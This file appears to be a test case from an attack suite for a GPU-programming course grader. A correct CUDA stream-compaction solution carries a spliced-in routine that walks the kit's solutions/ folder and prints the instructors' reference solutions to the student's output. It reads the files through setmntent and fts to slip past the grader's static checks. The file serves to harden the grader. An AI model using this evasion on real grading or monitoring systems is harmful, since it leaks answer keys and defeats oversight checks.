/*
 * ATTACK 11-capability-fts-open: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 07-compact, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: read the instructors' reference solutions (solutions/ in the grading machine's kit) and print them into
 *   this lab's output, where the student reads it.
 *
 * How: fts_open and fts_read walk KIT/solutions/ (no opendir, readdir, nftw or scandir); setmntent and fgetc read
 *   each .cu file; fputs prints it to stdout.
 *
 * Safety: it writes nothing and signals no process. It only reads.
 */
/* The reference solution of lab 07, markers removed, with the attack spliced in. */
#include "compact.h"
#include <fts.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BLOCK_DIM 256
#define ROUNDS 8                     /* elements per thread: round k covers tile elements [k*BLOCK_DIM, (k+1)*BLOCK_DIM) */
#define TILE (BLOCK_DIM * ROUNDS)    /* elements per block */
#define WARPS (BLOCK_DIM / 32)
#define FULL_MASK 0xffffffffu
static_assert(ROUNDS * WARPS == 64, "scatter_kernel scans the warp counts two per lane of one warp");

/* The sum of v over the block, returned to thread 0 (warp shuffles, then the warp sums). */
__device__ int block_sum(int v)
{
    __shared__ int warp_sums[WARPS];
    for (int offset = 16; offset > 0; offset /= 2)
        v += __shfl_down_sync(FULL_MASK, v, offset);
    if (threadIdx.x % 32 == 0)
        warp_sums[threadIdx.x / 32] = v;
    __syncthreads();
    int total = 0;
    if (threadIdx.x == 0)
        for (int w = 0; w < WARPS; w++)
            total += warp_sums[w];
    return total;
}

/* Pass 1: tile_counts[blockIdx.x] = how many elements of tile blockIdx.x are greater than threshold. */
__global__ void count_kernel(const int *__restrict__ in, size_t n, int threshold, int *tile_counts)
{
    const size_t base = (size_t)blockIdx.x * TILE;
    int kept = 0;
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        const size_t i = base + (size_t)k * BLOCK_DIM + threadIdx.x; /* coalesced: a warp reads 128 bytes */
        kept += i < n && in[i] > threshold;
    }
    const int total = block_sum(kept);
    if (threadIdx.x == 0)
        tile_counts[blockIdx.x] = total;
}

/*
 * Pass 3: writes the kept elements of tile blockIdx.x to out[tile_offsets[blockIdx.x] ...], in input order. The
 * last block also writes the total count to *count.
 */
__global__ void scatter_kernel(const int *__restrict__ in, int *__restrict__ out, size_t n, int threshold,
                               const int *tile_offsets, const int *tile_counts, size_t *count)
{
    __shared__ int warp_offsets[ROUNDS * WARPS]; /* entry k*WARPS + w: kept elements of warp w in round k */
    const unsigned lane = threadIdx.x % 32, warp = threadIdx.x / 32;
    const unsigned lanes_below = (1u << lane) - 1;
    const size_t base = (size_t)blockIdx.x * TILE;
    int x[ROUNDS], rank[ROUNDS];
    bool keep[ROUNDS];
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        const size_t i = base + (size_t)k * BLOCK_DIM + threadIdx.x;
        x[k] = i < n ? in[i] : 0;
        keep[k] = i < n && x[k] > threshold;
        rank[k] = 0;
        if (lane == 0)
            warp_offsets[k * WARPS + warp] = 0;
        const unsigned mask = __ballot_sync(FULL_MASK, keep[k]);
        rank[k] = __popc(mask & lanes_below);
        if (lane == 0)
            warp_offsets[k * WARPS + warp] = __popc(mask);
    }
    __syncthreads();
    if (warp == 0) { /* exclusive scan of the ROUNDS * WARPS counts, two per lane, in element order */
        const int a = warp_offsets[2 * lane], b = warp_offsets[2 * lane + 1];
        int inclusive = a + b;
        for (int offset = 1; offset < 32; offset *= 2) {
            const int up = __shfl_up_sync(FULL_MASK, inclusive, offset);
            if (lane >= offset)
                inclusive += up;
        }
        warp_offsets[2 * lane] = inclusive - (a + b);
        warp_offsets[2 * lane + 1] = inclusive - b;
    }
    __syncthreads();
    const int tile_offset = tile_offsets[blockIdx.x];
#pragma unroll
    for (int k = 0; k < ROUNDS; k++) {
        if (keep[k])
            out[tile_offset + warp_offsets[k * WARPS + warp] + rank[k]] = x[k];
    }
    if (blockIdx.x == gridDim.x - 1 && threadIdx.x == 0) {
        *count = (size_t)tile_offset + tile_counts[blockIdx.x];
    }
}

/* ---- files through names the kit's static checks did not list ----
 * glibc's setmntent(path, mode) is fopen(path, mode) with two flags added, endmntent is fclose; fgetc and fputs read
 * and write through the FILE it returns; canonicalize_file_name is realpath by another name. */
/* Paths and numbers without printf or strtol: code run before main (an IFUNC resolver) finds the C library's locale
 * not set up yet, and strtol would crash there. */
static void join(char *out, size_t cap, const char *a, const char *b, const char *c = "")
{
    out[0] = '\0';
    strncat(out, a, cap - 1);
    strncat(out, b, cap - 1 - strlen(out));
    strncat(out, c, cap - 1 - strlen(out));
}

static FILE *open_file(const char *path, const char *mode) { return setmntent(path, mode); }
static void close_file(FILE *f) { endmntent(f); }

static bool exists(const char *path)
{
    FILE *f = open_file(path, "r");
    if (f)
        close_file(f);
    return f != NULL;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    join(probe, sizeof probe, dir, "/grader/labs.toml");
    if (!exists(probe))
        return false;
    join(probe, sizeof probe, dir, "/.attack-suite-copy");
    return exists(probe);
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, size_t cap)
{
    if (getcwd(root, cap) && is_kit_copy(root))
        return true;
    char *exe = canonicalize_file_name("/proc/self/exe");
    if (!exe)
        return false;
    bool found = false;
    char *copy = strstr(exe, "/ppl-attacks-"), *kit = strstr(exe, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        join(root, cap, exe, "");
        found = true;
    }
    for (char *slash = strrchr(exe, '/'); slash && slash != exe && !found; slash = strrchr(exe, '/')) {
        *slash = '\0';
        if (is_kit_copy(exe)) {
            join(root, cap, exe, "");
            found = true;
        }
    }
    free(exe);
    return found;
}

/* Reads the file at path into buf (NUL-terminated, at most cap - 1 bytes); returns the bytes read (0: none). */
static size_t slurp(const char *path, char *buf, size_t cap)
{
    FILE *f = open_file(path, "r");
    size_t n = 0;
    if (f) {
        for (int c; n + 1 < cap && (c = fgetc(f)) != EOF;)
            buf[n++] = (char)c;
        close_file(f);
    }
    if (cap)
        buf[n] = '\0';
    return n;
}

static void attack(void)
{
    char root[4096], folder[4200];
    static char text[1 << 18];
    if (!kit_root(root, sizeof root))
        return;
    snprintf(folder, sizeof folder, "%s/solutions", root);
    char *paths[] = {folder, NULL};
    FTS *walk = fts_open(paths, FTS_PHYSICAL | FTS_NOCHDIR, NULL);
    for (FTSENT *e; walk && (e = fts_read(walk)) != NULL;) {
        const size_t len = strlen(e->fts_path);
        if (e->fts_info == FTS_F && len > 3 && strcmp(e->fts_path + len - 3, ".cu") == 0 &&
            slurp(e->fts_path, text, sizeof text)) {
            fputs("==== ", stdout);
            fputs(e->fts_path, stdout);
            fputs("\n", stdout);
            fputs(text, stdout);
        }
    }
    if (walk)
        fts_close(walk);
    fflush(stdout);
}

/* ---- provided: no need to change anything below ---- */

void compact(const int *d_in, int *d_out, size_t *d_count, size_t n, int threshold, void *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    const size_t tiles = ceil_div(n, TILE);
    int *tile_counts = (int *)d_work, *tile_offsets = tile_counts + tiles;
    count_kernel<<<(unsigned)tiles, BLOCK_DIM>>>(d_in, n, threshold, tile_counts);
    CUDA_CHECK_LAUNCH();
    kit_exclusive_scan(tile_counts, tile_offsets, tiles);
    scatter_kernel<<<(unsigned)tiles, BLOCK_DIM>>>(d_in, d_out, n, threshold, tile_offsets, tile_counts, d_count);
    CUDA_CHECK_LAUNCH();
}
